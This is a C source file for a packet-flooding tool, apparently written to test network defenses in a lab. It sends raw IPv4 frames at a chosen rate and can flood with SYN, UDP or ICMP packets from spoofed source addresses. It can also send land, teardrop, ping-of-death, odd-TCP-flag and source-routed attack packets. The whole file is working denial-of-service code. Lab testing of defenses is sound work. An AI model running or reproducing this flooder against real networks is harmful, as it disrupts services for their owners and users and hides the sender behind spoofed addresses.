/* An attacker for the lab: `flood INTERFACE ROUTER_MAC FROM TO KIND RATE SECONDS`, IPv4 frames over a packet socket.
 *
 * KIND: syn udp icmp (rates), land syn-fin no-flags fin-no-ack teardrop ping-of-death source-route (shapes). Source ports and identifiers change
 * with every frame; the source address too, within 10.77.9.128-255, when FROM is `many`. Prints one line of JSON.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include "load.h"

#define BATCH 32
#define FRAME 128

static uint32_t add(const void *bytes, size_t n, uint32_t sum)
{
	const uint8_t *b = bytes;

	for (size_t i = 0; i + 1 < n; i += 2)
		sum += (uint32_t)(b[i] << 8 | b[i + 1]);
	return n & 1 ? sum + (uint32_t)(b[n - 1] << 8) : sum;
}

static uint16_t fold(uint32_t sum)
{
	sum = (sum & 0xffff) + (sum >> 16);
	sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

/* IP header with `options` bytes of source route; returns where the transport begins. */
static uint8_t *ip(uint8_t *f, uint32_t n, in_addr_t from, in_addr_t to, uint8_t proto, uint16_t l4_bytes, uint16_t fragment, bool routed)
{
	uint32_t head = routed ? 28 : 20;
	struct iphdr h = { .version = 4, .ihl = head / 4, .ttl = 64, .protocol = proto, .id = htons((uint16_t)n), .frag_off = htons(fragment),
		.tot_len = htons((uint16_t)(head + l4_bytes)), .saddr = from, .daddr = to };

	memcpy(f + 14, &h, 20);
	if (routed) {
		static const uint8_t option[4] = { 131, 7, 4, 0 }; /* loose source route with one address, then end of list */

		memcpy(f + 34, option, 3);
		memcpy(f + 37, &to, 4);
		f[41] = 0;
	}
	h.check = fold(add(f + 14, head, 0));
	memcpy(f + 24, &h.check, 2);
	return f + 14 + head;
}

static uint16_t l4_sum(const uint8_t *f, const uint8_t *l4, uint16_t bytes, uint8_t proto) { return fold(add(l4, bytes, add(f + 26, 8, proto + bytes))); }

static uint32_t tcp(uint8_t *f, uint32_t n, in_addr_t from, in_addr_t to, uint8_t flags, bool land, bool routed)
{
	struct tcphdr t = { .source = htons((uint16_t)(land ? 80 : 1024 + n % 60000)), .dest = htons(80), .seq = htonl(n * 7919u), .doff = 5, .window = htons(1024) };
	uint8_t *l4 = ip(f, n, land ? to : from, to, IPPROTO_TCP, 20, 0, routed);

	memcpy(l4, &t, 20);
	l4[13] = flags;
	t.check = l4_sum(f, l4, 20, IPPROTO_TCP);
	memcpy(l4 + 16, &t.check, 2);
	return (uint32_t)(l4 - f) + 20;
}

static uint32_t udp(uint8_t *f, uint32_t n, in_addr_t from, in_addr_t to)
{
	struct udphdr u = { .source = htons((uint16_t)(1024 + n % 60000)), .dest = htons(5007), .len = htons(28) };
	uint8_t *l4 = ip(f, n, from, to, IPPROTO_UDP, 28, 0, false);

	memset(l4, 0, 28);
	memcpy(l4, &u, 8);
	u.check = l4_sum(f, l4, 28, IPPROTO_UDP);
	memcpy(l4 + 6, &u.check, 2);
	return (uint32_t)(l4 - f) + 28;
}

static uint32_t icmp(uint8_t *f, uint32_t n, in_addr_t from, in_addr_t to, uint16_t fragment)
{
	struct icmphdr h = { .type = ICMP_ECHO, .un.echo = { .id = htons((uint16_t)n), .sequence = htons(1) } };
	uint8_t *l4 = ip(f, n, from, to, IPPROTO_ICMP, 32, fragment, false);

	memset(l4, 0, 32);
	memcpy(l4, &h, 8);
	h.checksum = fold(add(l4, 32, 0));
	memcpy(l4 + 2, &h.checksum, 2);
	return (uint32_t)(l4 - f) + 32;
}

static uint32_t make(const char *kind, uint8_t *f, uint32_t n, in_addr_t from, in_addr_t to)
{
	if (strcmp(kind, "syn") == 0)
		return tcp(f, n, from, to, TH_SYN, false, false);
	if (strcmp(kind, "syn-fin") == 0)
		return tcp(f, n, from, to, TH_SYN | TH_FIN, false, false);
	if (strcmp(kind, "no-flags") == 0)
		return tcp(f, n, from, to, 0, false, false);
	if (strcmp(kind, "fin-no-ack") == 0)
		return tcp(f, n, from, to, TH_FIN, false, false);
	if (strcmp(kind, "land") == 0)
		return tcp(f, n, from, to, TH_SYN, true, false);
	if (strcmp(kind, "source-route") == 0)
		return tcp(f, n, from, to, TH_SYN, false, true);
	if (strcmp(kind, "udp") == 0)
		return udp(f, n, from, to);
	if (strcmp(kind, "icmp") == 0)
		return icmp(f, n, from, to, 0);
	if (strcmp(kind, "teardrop") == 0)
		return icmp(f, n, from, to, 2); /* offset 16: inside what the first fragment held */
	if (strcmp(kind, "ping-of-death") == 0)
		return icmp(f, n, from, to, 8190); /* offset 65520 + 32 bytes */
	fprintf(stderr, "unknown kind %s\n", kind);
	exit(2);
}

int main(int argc, char **argv)
{
	static uint8_t frames[BATCH][FRAME];
	struct iovec vectors[BATCH];
	struct mmsghdr messages[BATCH] = { 0 };
	struct sockaddr_ll link = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL) };
	struct ifreq request = { 0 };
	uint8_t head[14] = { 0 };
	in_addr_t from = 0, to;
	uint64_t begun, sent = 0;
	unsigned mac[6];
	double rate, seconds;
	bool many;
	int fd;

	if (argc != 8 || sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) != 6 || inet_pton(AF_INET, argv[4], &to) != 1) {
		fprintf(stderr, "usage: flood INTERFACE ROUTER_MAC FROM|many TO KIND RATE SECONDS\n");
		return 2;
	}
	many = strcmp(argv[3], "many") == 0;
	if (!many && inet_pton(AF_INET, argv[3], &from) != 1)
		return 2;
	rate = atof(argv[6]);
	seconds = atof(argv[7]);
	signal(SIGTERM, on_signal);
	signal(SIGINT, on_signal);
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	strncpy(request.ifr_name, argv[1], IFNAMSIZ - 1);
	if (fd < 0 || ioctl(fd, SIOCGIFINDEX, &request) != 0)
		fail(argv[1]);
	link.sll_ifindex = request.ifr_ifindex;
	if (ioctl(fd, SIOCGIFHWADDR, &request) != 0 || bind(fd, (struct sockaddr *)&link, sizeof(link)) != 0)
		fail(argv[1]);
	for (int i = 0; i < 6; i++)
		head[i] = (uint8_t)mac[i];
	memcpy(head + 6, request.ifr_hwaddr.sa_data, 6);
	head[12] = 0x08;
	begun = now_ns();
	while (!stop) {
		double elapsed = (double)(now_ns() - begun) / 1e9;
		uint32_t n = 0;
		int done;

		if (elapsed >= seconds)
			break;
		for (; n < BATCH && (double)(sent + n) < elapsed * rate; n++) {
			uint32_t number = (uint32_t)(sent + n);

			memcpy(frames[n], head, 14);
			vectors[n] = (struct iovec){ .iov_base = frames[n],
				.iov_len = make(argv[5], frames[n], number, many ? htonl(0x0a4d0980u + number % 128) : from, to) };
			messages[n].msg_hdr = (struct msghdr){ .msg_iov = &vectors[n], .msg_iovlen = 1 };
		}
		if (n == 0) {
			usleep(200);
			continue;
		}
		done = sendmmsg(fd, messages, n, 0);
		if (done < 0 && errno != ENOBUFS && errno != EAGAIN)
			fail("send");
		sent += done > 0 ? (uint64_t)done : 0;
	}
	printf("{\"sent\":%llu,\"seconds\":%.3f}\n", (unsigned long long)sent, (double)(now_ns() - begun) / 1e9);
	return 0;
}
